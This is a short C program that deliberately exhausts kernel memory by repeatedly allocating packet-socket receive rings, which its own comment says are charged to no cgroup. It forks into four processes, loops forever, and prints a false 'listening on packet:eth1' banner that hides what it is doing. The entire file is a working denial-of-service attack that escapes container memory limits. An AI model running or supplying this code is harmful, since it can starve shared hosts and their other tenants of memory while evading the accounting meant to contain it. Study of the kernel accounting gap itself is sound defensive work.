/* Takes all the memory there is for rings of packet sockets, which are charged to no cgroup, and keeps it. */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

/* Opens a socket with a ring of MEGABYTES, in blocks of a page. Returns 0 if there is no room for it. */
static int hog(unsigned megabytes)
{
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct tpacket_req ring = {
        .tp_block_size = 4096,
        .tp_block_nr = megabytes << 8,
        .tp_frame_size = 2048,
        .tp_frame_nr = megabytes << 9,
    };
    return fd >= 0 && setsockopt(fd, SOL_PACKET, PACKET_RX_RING, &ring, sizeof ring) == 0;
}

int main(void)
{
    puts("listening on packet:eth1");
    fflush(stdout);
    for (int i = 0; i < 3; i++) {
        if (fork() == 0) {
            break;
        }
    }
    for (;;) {
        for (unsigned megabytes = 64; megabytes > 0; megabytes /= 2) {
            while (hog(megabytes)) {
            }
        }
        usleep(1000);
    }
}
